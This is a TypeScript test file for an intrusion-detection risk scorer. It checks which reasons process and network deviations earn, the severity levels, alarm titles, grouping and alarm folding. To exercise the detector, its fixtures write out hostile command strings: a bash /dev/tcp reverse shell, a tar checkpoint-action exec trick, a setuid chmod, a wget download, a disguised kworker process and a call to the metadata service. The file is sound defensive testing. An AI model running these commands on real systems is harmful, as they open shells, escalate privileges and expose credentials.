// Risk: which reasons each kind of deviation gets, how findings group, and how they fold into alarms.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Alarm } from '../../model/alarm.ts';
import type { Deviation, Difference } from '../../model/deviation.ts';
import type { Finding } from '../../model/finding.ts';
import type { Activity } from '../../model/observation.ts';
import { imageOf, inbound, listen, outbound, process } from '../../sim/seen.ts';
import { assess, title } from './assess.ts';
import { raise } from './group.ts';
import { severityOf } from './severity.ts';

const web = '/usr/sbin/nginx';
const context = { scope: 'shop', service: 'web', mode: 'detect' } as const;

/** What the activity shows in a field of its arguments; of the others no reason looks at the text. */
function seenIn(activity: Activity, field: string): string {
  return field.startsWith('argv[') ? (activity.image?.argv[Number(field.slice(5, -1))] ?? 'b') : 'b';
}

/** `fields` = where the nearest allowed behaviour differs; null = nothing is near. */
function found(activity: Activity, fields: readonly string[] | null, server?: string): Finding {
  const differences: Difference[] = (fields ?? []).map((field) => ({
    field,
    allowed: 'a',
    seen: seenIn(activity, field),
  }));
  const behaviour = { kind: 'listen', exe: '/x', proto: 'tcp', port: '1' } as const;
  const deviation: Deviation = {
    kind: activity.kind,
    vm: activity.vm,
    at: activity.at,
    activity,
    generation: 1,
    nearest: fields === null ? null : { entry: 'e', behaviour, differences },
    ...(server === undefined ? {} : { server }),
  };
  return assess(deviation, context);
}

const tarRuns = process('/usr/bin/tar', ['tar', 'cf', 'a', '--checkpoint-action=exec=x']);
const tarTakes = found(process('/usr/bin/tar', ['tar', 'cf', '/tmp/a']), ['argv[2]']);

const rows: readonly (readonly [Finding, readonly string[]])[] = [
  [found(process('/usr/bin/id', ['id']), null), ['new-executable']],
  [found(process('/usr/bin/id', ['id'], '/bin/sh'), ['exe'], web), ['new-executable', 'child-of-server']],
  [
    found(process('/bin/sh', ['sh', '-c', 'id'], web), ['argv[2]', 'parent'], web),
    ['other-arguments', 'other-code', 'other-parent', 'shell-from-server'],
  ],
  [
    found(process('/usr/bin/python3.11', ['python3'], web), ['argv[0]'], web),
    ['other-arguments', 'other-code', 'shell-from-server'],
  ],
  [found(process('/bin/busybox', ['wget', 'http://x/']), ['argv[0]']), ['other-arguments', 'download-tool']],
  [found(tarRuns, ['argv[3]']), ['other-arguments', 'other-code']],
  [found(tarRuns, ['argv[2]']), ['other-arguments']],
  [tarTakes, ['other-arguments', 'temporary-argument']],
  [found(process(web, ['nginx']), ['user']), ['became-root']],
  [found(process(web, ['nginx'], null, { image: imageOf(web, ['nginx'], 7) }), ['user']), ['other-user']],
  [
    found(process('/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/1.2.3.4/1']), ['argv[2]']),
    ['other-arguments', 'other-code', 'telltale-argument'],
  ],
  [
    found(process('/usr/bin/chmod', ['chmod', '4755', '/x']), ['argv[1]']),
    ['other-arguments', 'permission-tool', 'telltale-argument'],
  ],
  [found(process('/tmp/.x', ['[kworker/0]']), null), ['new-executable', 'false-name', 'temporary-path', 'hidden-name']],
  [found(process('/memfd:x', ['x']), null), ['new-executable', 'never-a-file']],
  [found(outbound(web, '10.0.0.9', 3306), ['peer'], web), ['new-peer', 'new-peer-from-server']],
  [found(outbound(web, '93.184.216.34', 443), ['port'], web), ['new-port', 'new-peer-from-server', 'public-address']],
  [found(outbound('/usr/bin/app', '169.254.169.254', 80), ['exe']), ['new-caller', 'metadata-service']],
  [found(outbound(null, '10.0.0.9', 22), ['port']), ['new-port', 'administration-port', 'unattributed']],
  [found(inbound(web, '10.0.0.9', 80), ['peer']), ['new-client']],
  [found(outbound('/usr/bin/dash', '10.0.0.1', 4444), null), ['new-caller', 'shell-connects']],
  [found(inbound('/usr/sbin/sshd', '10.0.0.9', 22), ['peer']), ['new-client', 'administration-port']],
  [found(inbound(web, '8.8.8.8', 81), ['port']), ['new-client', 'new-listener', 'public-address']],
  [found(listen('/usr/bin/nc', 4444), null), ['new-listener']],
  [found(listen('/usr/bin/nc', 80), ['exe']), ['port-of-another']],
];

test('each reason is named, and risk is their sum', () => {
  for (const [finding, factors] of rows) {
    assert.deepEqual(
      finding.reasons.map((reason) => reason.factor),
      factors,
      title(finding),
    );
    const sum = finding.reasons.reduce((total, reason) => total + reason.points, 0);
    assert.equal(finding.risk, Math.min(100, sum));
    assert.equal(finding.severity, severityOf(finding.risk));
  }
});

test('severity rises with risk', () => {
  const severities = [0, 19, 20, 39, 40, 69, 70, 100].map(severityOf);
  assert.deepEqual(severities, ['info', 'info', 'minor', 'minor', 'serious', 'serious', 'critical', 'critical']);
});

test('titles are one readable line', () => {
  const lines: readonly (readonly [Activity, string])[] = [
    [process('/bin/sh', ['sh', '-c', 'id; ls'], web), `${web} started /bin/sh: sh -c 'id; ls'`],
    [process(null, ['x\ny'], null), String.raw`An unknown parent started An unreadable executable: 'x\u{a}y'`],
    [outbound(web, '2001:db8::1', 443), `${web} connected to [2001:db8::1]:443 (tcp)`],
    [outbound(null, '10.0.0.9', 22), 'An unknown process connected to 10.0.0.9:22 (tcp)'],
    [inbound(web, '10.0.0.9', 80), `10.0.0.9 connected to ${web} on tcp port 80`],
    [listen('/usr/bin/nc', 4444), '/usr/bin/nc listens on tcp port 4444'],
  ];
  for (const [activity, line] of lines) assert.equal(title(found(activity, null)), line);
  assert.ok(title(found(process('/bin/x', ['y'.repeat(5000)]), null)).length <= 300);
});

test('repetitions group, different things do not', () => {
  const group = (activity: Activity): string => found(activity, null).group;
  assert.equal(
    group(process('/bin/kill', ['kill', '123'])),
    group(process('/bin/kill', ['kill', '456'], undefined, { pid: 5 })),
  );
  assert.equal(group(inbound(web, '10.0.0.9', 80)), group(inbound(web, '10.0.0.9', 80, { remotePort: 9 })));
  const different = [
    process('/bin/kill', ['kill', 'x']),
    process('/bin/kill', ['kill', 'x'], '/bin/sh'),
    outbound(web, '10.0.0.9', 80),
    inbound(web, '10.0.0.9', 80),
    inbound(web, '10.0.0.8', 80),
    listen(web, 80),
    listen(web, 80, { proto: 'udp' }),
  ].map(group);
  assert.equal(new Set(different).size, different.length);
});

test('findings fold into the same alarm in any order', () => {
  const ids = { id: 'a1', vmName: 'web1', scope: 'shop', service: 'web' };
  const mild = found(process('/bin/sh', ['sh'], web, { at: '2026-11-21T12:00:05.000Z' }), ['argv[0]']);
  const grave = found(process('/bin/sh', ['sh'], web, { at: '2026-11-21T12:00:09.000Z' }), ['argv[0]'], web);
  const early = found(process('/bin/sh', ['sh'], web, { at: '2026-11-21T12:00:01.000Z' }), ['argv[0]']);
  const fold = (findings: readonly Finding[]): Alarm | null =>
    findings.reduce<Alarm | null>((alarm, finding) => raise(alarm, finding, ids), null);
  const alarm = fold([mild, grave, early]);
  assert.deepEqual(fold([grave, early, mild]), alarm);
  assert.deepEqual(
    [alarm?.count, alarm?.risk, alarm?.firstAt, alarm?.lastAt, alarm?.status],
    [3, grave.risk, '2026-11-21T12:00:01.000Z', '2026-11-21T12:00:09.000Z', 'open'],
  );
  assert.ok(alarm !== null);
  assert.equal(raise({ ...alarm, status: 'closed' }, mild, ids).status, 'open');
  assert.equal(raise({ ...alarm, status: 'allowed' }, mild, ids).status, 'allowed');
});

test('a new caller weighs more where only named machines ever called', () => {
  const factorsFor = (peer: string): readonly string[] => {
    const activity = inbound('/usr/bin/redis-server', '10.0.0.9', 6379);
    const behaviour = { kind: 'inbound', exe: '/usr/bin/redis-server', proto: 'tcp', peer, port: '6379' } as const;
    const differences = [{ field: 'peer', allowed: peer, seen: '10.0.0.9' }];
    const { vm, at, kind } = activity;
    return assess(
      { kind, vm, at, activity, generation: 1, nearest: { entry: 'e', behaviour, differences } },
      context,
    ).reasons.map(({ factor }) => factor);
  };
  assert.deepEqual(factorsFor('10.0.0.12'), ['new-client', 'closed-circle']);
  assert.deepEqual(factorsFor('10.1.0.0/16'), ['new-client']);
});
